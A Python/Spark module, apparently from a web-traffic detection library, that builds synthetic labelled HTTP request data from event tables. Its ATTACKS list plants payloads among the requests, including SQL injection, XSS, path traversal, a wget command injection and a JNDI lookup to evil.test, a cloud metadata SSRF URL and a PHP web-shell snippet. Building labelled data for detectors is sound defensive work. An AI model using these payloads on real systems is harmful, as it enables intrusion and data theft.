"""The provided tables seen as HTTP traffic.

Every view is one SELECT in SQL that Spark and a second engine read alike (no backslashes, no braces, quotes and
backslashes of attack texts through ``chr``), so that a query and its check start from the same rows.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from tracewarden.operators.ranking import block_count
from tracewarden.operators.requests import header_map
from tracewarden.session import scratch_path

# Attack values put into the traffic, one per slot; ` stands for a quote and ^ for a backslash.
ATTACKS = [
    "1` OR `1`=`1",
    "1 UNION SELECT user, pass FROM accounts",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "..^..^boot.ini",
    ";cat /etc/passwd",
    "$(wget http://evil.test/a.sh)",
    "http://10.1.2.3/shell.txt?",
    "<?php system($_GET[0]); ?>",
    "php://filter/read=convert.base64-encode",
    "http://169.254.169.254/latest/meta-data",
    "java.lang.Runtime.getRuntime().exec(1)",
    "$[jndi:ldap://evil.test/a]",
    "x.cookie=1; expires=never",
    "a%0d%0aSet-Cookie: admin=1",
    "(&(uid=*)(userPassword=*))",
    "sleep(5) -- -",
    "javascript:alert(document.cookie)",
    "&lt;svg onload=alert(1)&gt;",
]

# Response texts put into the traffic, one per slot.
LEAKS = [
    "<title>Index of /backup</title><h1>Index of /backup</h1>",
    "You have an error in your SQL syntax near `1`",
    "java.lang.NullPointerException at com.shop.Cart(Cart.java:10)",
    "<b>Warning</b>: include() failed in /var/www/a.php on line 3",
    "Microsoft OLE DB Provider for SQL Server error `80004005`",
    "<title>r57shell</title> uid=0(root)",
    "ORA-00933: SQL command not properly ended",
]

# URL encoding of the attack values, as (plain, encoded) pairs in the order they apply.
_ESCAPES = [("%", "%25"), ("<", "%3C"), (">", "%3E"), (" ", "+"), ("&", "%26"), (";", "%3B"), ("=", "%3D"), ("#", "%23")]


def _text(value: str) -> str:
    plain = "`" not in value and "^" not in value
    return f"'{value}'" if plain else f"replace(replace('{value}', '`', chr(39)), '^', chr(92))"


def _pick(index: str, values: list[str], default: str) -> str:
    arms = " ".join(f"WHEN {i} THEN {_text(v)}" for i, v in enumerate(values))
    return f"CASE {index} {arms} ELSE {default} END"


def _encoded(expr: str) -> str:
    for plain, code in _ESCAPES:
        expr = f"replace({expr}, '{plain}', '{code}')"
    return expr


_RAW = f"""
SELECT event_id, ts, user_id, event_type, value, props,
  CAST(regexp_extract(props, '[0-9]+', 0) AS BIGINT) AS k,
  {_pick('event_id % 40', ATTACKS, "concat('item ', CAST(user_id AS VARCHAR(20)))")} AS payload
FROM events
"""
_CODED = f"SELECT raw.*, {_encoded('payload')} AS coded FROM ({_RAW}) raw"

REQUESTS = f"""
SELECT event_id AS req_id, ts, user_id, payload,
  concat('10.', CAST(user_id % 200 AS VARCHAR(20)), '.0.', CAST(k AS VARCHAR(20))) AS client_ip,
  CASE WHEN event_id % 90 = 0 THEN '10.0.0.8:8080'
       WHEN event_id % 90 = 1 THEN ''
       WHEN event_id % 90 = 2 THEN NULL
       ELSE concat('shop', CAST(user_id % 7 AS VARCHAR(20)), '.example.com') END AS host,
  CASE WHEN event_id % 70 = 3 THEN 'TRACE' WHEN event_id % 4 = 0 THEN 'POST' WHEN event_id % 4 = 1 THEN 'PUT'
       WHEN event_id % 44 = 2 THEN 'HEAD' ELSE 'GET' END AS method,
  CASE WHEN event_id % 100 = 6 THEN '/'
       WHEN event_id % 50 = 5 THEN concat('/', event_type, '/', CAST(user_id AS VARCHAR(20)), '/dump.bak')
       WHEN event_id % 3 = 0 THEN concat('/', event_type, '/', CAST(user_id AS VARCHAR(20)), '/')
       ELSE concat('/api/', event_type, '/v', CAST(k AS VARCHAR(20)), '/list') END AS path,
  CASE WHEN event_id % 100 = 6 OR event_id % 13 = 4 THEN ''
       WHEN event_id % 17 = 3 THEN concat('id=', CAST(k AS VARCHAR(20)), '&id=', CAST(user_id AS VARCHAR(20)), '&q=', coded)
       WHEN event_id % 29 = 8 THEN concat('bad=%zz&q=', coded)
       WHEN event_id % 31 = 9 THEN concat('sessionid=', CAST(k AS VARCHAR(20)), '&page=2')
       ELSE concat('q=', {_encoded('payload')}, '&page=', CAST(k AS VARCHAR(20))) END AS query,
  CASE WHEN event_id % 60 = 7 THEN 'HTTP/9.9' WHEN event_id % 6 = 1 THEN 'HTTP/2.0' WHEN event_id % 6 = 2 THEN 'HTTP/1.0'
       ELSE 'HTTP/1.1' END AS protocol,
  CASE WHEN event_id % 41 = 0 THEN 'sqlmap/1.7' WHEN event_id % 41 = 1 THEN '' WHEN event_id % 41 = 2 THEN NULL
       WHEN event_id % 41 = 3 THEN 'Nikto/2.5' ELSE concat('Mozilla/5.0 (X11; rv:', CAST(k AS VARCHAR(20)), '.0) Gecko') END AS user_agent,
  CASE WHEN event_id % 5 = 0 THEN NULL WHEN event_id % 5 = 1 THEN 'https://other.example.net/start'
       ELSE concat('https://shop', CAST(user_id % 7 AS VARCHAR(20)), '.example.com/home') END AS referer,
  CASE WHEN event_id % 23 = 0 THEN '' WHEN event_id % 23 = 1 THEN NULL ELSE 'text/html,*/*' END AS accept,
  'gzip, deflate' AS accept_encoding,
  CASE event_id % 5 WHEN 0 THEN 'application/json' WHEN 1 THEN 'application/x-www-form-urlencoded'
       WHEN 2 THEN 'text/xml; charset=utf-8' WHEN 4 THEN 'multipart/form-data; boundary=x1' ELSE NULL END AS content_type,
  CASE WHEN event_id % 9 = 0 THEN concat('sid=', CAST(user_id AS VARCHAR(20)), '; theme=dark') ELSE NULL END AS cookie,
  CASE WHEN event_id % 33 = 0 THEN 'keep-alive, close' ELSE 'keep-alive' END AS connection,
  CASE WHEN event_id % 27 = 0 THEN 'abc' WHEN event_id % 5 = 3 THEN '0' WHEN event_id % 27 = 1 THEN NULL ELSE '64' END AS content_length,
  CASE WHEN event_id % 37 = 0 THEN '65' ELSE NULL END AS content_length_2,
  CASE WHEN event_id % 47 = 0 THEN 'chunked' ELSE NULL END AS transfer_encoding,
  CASE WHEN event_id % 53 = 0 THEN 'bytes=9-1' WHEN event_id % 53 = 1 THEN 'bytes=1-2,3-4,5-6,7-8,9-10,11-12' ELSE NULL END AS range_header,
  CASE WHEN event_id % 43 = 0 THEN 'GET' ELSE NULL END AS method_override,
  CASE event_id % 5 WHEN 0 THEN props
       WHEN 1 THEN concat('user=', CAST(user_id AS VARCHAR(20)), '&note=', coded, '&empty=')
       WHEN 2 THEN concat('<?xml version="1.0"?><r><a>', CAST(k AS VARCHAR(20)), '</a><b>', event_type, '</b></r>')
       WHEN 4 THEN concat('--x1 ', event_type, ' value ', CAST(user_id AS VARCHAR(20)), ' {{n: ', CAST(k AS VARCHAR(20)), '}}')
       ELSE '' END AS body,
  CASE WHEN event_type = 'error' AND k % 3 = 0 THEN 403 WHEN event_type = 'error' THEN 500 ELSE 200 END AS status,
  CASE WHEN event_id % 19 = 0 THEN 'gzip' ELSE NULL END AS response_encoding,
  {_pick('event_id % 35', LEAKS, "concat('<p>ok ', CAST(k AS VARCHAR(20)), '</p>')")} AS response_body,
  CASE WHEN event_id % 40 < {len(ATTACKS)} THEN 'malicious' ELSE 'benign' END AS label,
  CASE WHEN event_id % 40 >= {len(ATTACKS)} THEN 'none' WHEN event_id % 40 < 2 THEN 'sqli' WHEN event_id % 40 < 4 THEN 'xss'
       WHEN event_id % 40 < 6 THEN 'dta' ELSE 'enum' END AS attack_type
FROM ({_CODED}) base
""".replace("{{", "{").replace("}}", "}")

BODIES = """
SELECT d.doc_id AS req_id, concat('/', d.lang, '/', d.source) AS path, concat('lang=', d.lang, '&n=', CAST(d.n_chars AS VARCHAR(20))) AS query,
  d.text AS body, CASE WHEN l.toxic = 1 THEN 'malicious' WHEN l.toxic = 0 THEN 'benign' ELSE NULL END AS label
FROM documents d LEFT JOIN labels l ON d.doc_id = l.doc_id
"""

PAGE_VIEWS = """
SELECT page_id AS req_id, url, html AS response_body,
  CASE page_id % 4 WHEN 0 THEN 'GET' WHEN 1 THEN 'POST' WHEN 2 THEN 'PUT' ELSE 'DELETE' END AS method
FROM pages
"""

TRAFFIC = """
SELECT event_id, ts, user_id, CASE WHEN event_id % 4 = 0 THEN 'POST' ELSE 'GET' END AS method, event_type AS name,
  value AS latency_ms, CAST(regexp_extract(props, '[0-9]+', 0) AS BIGINT) AS size,
  CASE WHEN event_type = 'error' THEN concat('HTTPError ', CASE WHEN event_id % 3 = 0 THEN '403' ELSE '500' END) ELSE NULL END AS error
FROM events
"""

DIALOG = "SELECT conv_id * 1000 + turn AS row_id, conv_id, turn, role, text FROM conversations"

VIEWS = {"requests": REQUESTS, "bodies": BODIES, "page_views": PAGE_VIEWS, "traffic": TRAFFIC, "dialog": DIALOG}
_TABLES = {
    "requests": ["events"],
    "bodies": ["documents", "labels"],
    "page_views": ["pages"],
    "traffic": ["events"],
    "dialog": ["conversations"],
}


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


#: Rows that a task starts from at most; a compressed file of a few MB may hold millions.
TASK_ROWS = 50_000


def spread(df: DataFrame) -> DataFrame:
    """Use all cores when the input is a few files, and more tasks, not larger ones, when it has many rows."""
    cores, parts = df.sparkSession.sparkContext.defaultParallelism, df.rdd.getNumPartitions()
    wanted = max(cores if parts * 2 <= cores else parts, block_count(df.count(), TASK_ROWS))
    return df.repartition(wanted) if parts < wanted else df


def view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """One of ``VIEWS`` over the tables of ``sf_dir``."""
    for source in _TABLES[name]:
        table(spark, sf_dir, source).createOrReplaceTempView(source)
    return spark.sql(VIEWS[name])


def cte(*names: str) -> str:
    """``WITH`` clause holding the named views, for the check SQL."""
    return "WITH " + ",\n".join(f"{n} AS ({VIEWS[n]})" for n in names) + "\n"


def _one(col: str) -> Column:
    return F.when(F.col(col).isNotNull(), F.array(F.col(col)))


_WRITTEN: dict[tuple[str, str], str] = {}


def requests(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The ``requests`` view as a stored request table, the form the operators are meant to read.

    It is written once per session and folder, so that queries start from plain columns and prune what they do not use. Its
    files are small beside their rows, and Spark gives a task as many as fit a split: rows are dealt again where that is too many.
    """
    return spread(spark.read.parquet(stored_path(spark, sf_dir)))


def stored_path(spark: SparkSession, sf_dir: str) -> str:
    key = (spark.sparkContext.applicationId, sf_dir)
    if key not in _WRITTEN:
        path = scratch_path(spark, "requests")
        _request_rows(spark, sf_dir).write.parquet(path)
        _WRITTEN[key] = path
    return _WRITTEN[key]


def _request_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
    spread(table(spark, sf_dir, "events")).createOrReplaceTempView("events")  # the view is much work a row
    rows = spark.sql(VIEWS["requests"])
    lengths = F.filter(F.array("content_length", "content_length_2"), lambda v: v.isNotNull())
    headers = header_map(
        {
            "Host": _one("host"),
            "User-Agent": _one("user_agent"),
            "Referer": _one("referer"),
            "Accept": _one("accept"),
            "Accept-Encoding": _one("accept_encoding"),
            "Content-Type": _one("content_type"),
            "Cookie": _one("cookie"),
            "Connection": _one("connection"),
            "Content-Length": F.when(F.size(lengths) > 0, lengths),
            "Transfer-Encoding": _one("transfer_encoding"),
            "Range": _one("range_header"),
            "X-HTTP-Method-Override": _one("method_override"),
        }
    )
    response_headers = header_map(
        {"Content-Type": F.array(F.lit("text/html")), "Content-Encoding": _one("response_encoding")}
    )
    return rows.select(
        "req_id",
        "ts",
        "client_ip",
        "method",
        "path",
        "query",
        F.when(F.col("query") == "", F.col("path")).otherwise(F.concat_ws("?", "path", "query")).alias("uri"),
        "protocol",
        headers.alias("headers"),
        "body",
        "status",
        response_headers.alias("response_headers"),
        "response_body",
        "label",
        "attack_type",
        "payload",
    )
